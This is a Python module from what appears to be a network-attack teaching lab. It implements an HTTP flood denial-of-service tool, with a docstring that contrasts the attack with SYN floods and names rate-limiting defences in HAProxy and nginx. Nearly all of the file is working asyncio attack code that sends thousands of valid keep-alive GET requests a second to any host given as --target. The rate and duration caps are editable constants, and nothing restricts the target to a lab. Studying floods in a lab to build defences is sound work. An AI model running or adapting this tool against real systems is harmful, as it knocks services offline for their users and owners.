"""An HTTP flood: too much traffic that looks like real traffic (``python -m lab.packets.http_flood``).

A SYN flood never finishes a handshake, so SYN cookies stop it. An HTTP
flood does finish: each request is a real, valid ``GET`` on a kept-alive
connection, and the server cannot tell it from a customer's except by how
many come from one address. So it eats what the service really has (the
origins' capacity, the balancer's CPU), and real clients wait in the same
queues or time out.

The defence has to count: a per-client request rate (HAProxy's
``sc_http_req_rate`` in a stick table, nginx's ``limit_req``), over which
the gateway answers 429 Too Many Requests at almost no cost, before anything
reaches an origin.

Bounded: at most ``--rate`` requests a second (20000) over ``--connections``
kept-alive connections (200), for at most ``--duration`` seconds, only to
the lab address it is given. Every second it prints how many requests were
answered, by status.

    python -m lab.packets.http_flood --target 10.0.0.2 --port 80 --connections 20 --rate 2000
"""
from __future__ import annotations

import argparse
import asyncio
import signal
import sys
import time
from collections import Counter

MAX_RATE = 20000
MAX_CONNECTIONS = 200
MAX_DURATION = 600.0


class Flood:
    def __init__(self, target: str, port: int, rate: float) -> None:
        self.target, self.port = target, port
        self.gap = 1 / min(rate, MAX_RATE)
        self.next_send = time.monotonic()
        self.answers: Counter[str] = Counter()  # status, or how it failed

    async def _pace(self) -> None:
        """All connections share one schedule, so the total rate holds whatever the server's speed."""
        now = time.monotonic()
        self.next_send = max(self.next_send + self.gap, now - 1)  # a server that stalled does not earn a burst
        if self.next_send > now:
            await asyncio.sleep(self.next_send - now)

    async def connection(self, n: int, stop: asyncio.Event) -> None:
        request = f"GET /flood/{n} HTTP/1.1\r\nHost: {self.target}\r\nUser-Agent: halab-http-flood\r\n\r\n".encode()
        while not stop.is_set():
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(self.target, self.port), 5)
            except (OSError, asyncio.TimeoutError):
                self.answers["no connection"] += 1
                await asyncio.sleep(0.5)
                continue
            try:
                while not stop.is_set():
                    await self._pace()
                    writer.write(request)
                    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                    status = head.split(b" ", 2)[1].decode()
                    length = next((int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")
                                   if line.lower().startswith(b"content-length:")), 0)
                    await reader.readexactly(length)
                    self.answers[status] += 1
                    if b"connection: close" in head.lower():
                        break
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError, IndexError):
                self.answers["broken"] += 1
            finally:
                writer.close()

    def line(self) -> str:
        return f"{time.strftime('%H:%M:%S')} answers: " + (", ".join(f"{k} {v}" for k, v in sorted(self.answers.items())) or "none")


async def run(target: str, port: int, connections: int, rate: float, duration: float) -> Flood:
    flood = Flood(target, port, rate)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    tasks = [asyncio.create_task(flood.connection(n, stop)) for n in range(min(connections, MAX_CONNECTIONS))]
    end = time.monotonic() + min(duration, MAX_DURATION)
    while not stop.is_set() and time.monotonic() < end:
        print(flood.line(), flush=True)
        try:
            await asyncio.wait_for(stop.wait(), 1)
        except asyncio.TimeoutError:
            pass
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print("done: " + flood.line(), flush=True)
    return flood


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.packets.http_flood")
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=20, help=f"kept-alive connections (at most {MAX_CONNECTIONS})")
    parser.add_argument("--rate", type=float, default=2000, help=f"requests per second in all (at most {MAX_RATE})")
    parser.add_argument("--duration", type=float, default=MAX_DURATION)
    args = parser.parse_args(argv)
    asyncio.run(run(args.target, args.port, args.connections, args.rate, args.duration))
    return 0


if __name__ == "__main__":
    sys.exit(main())
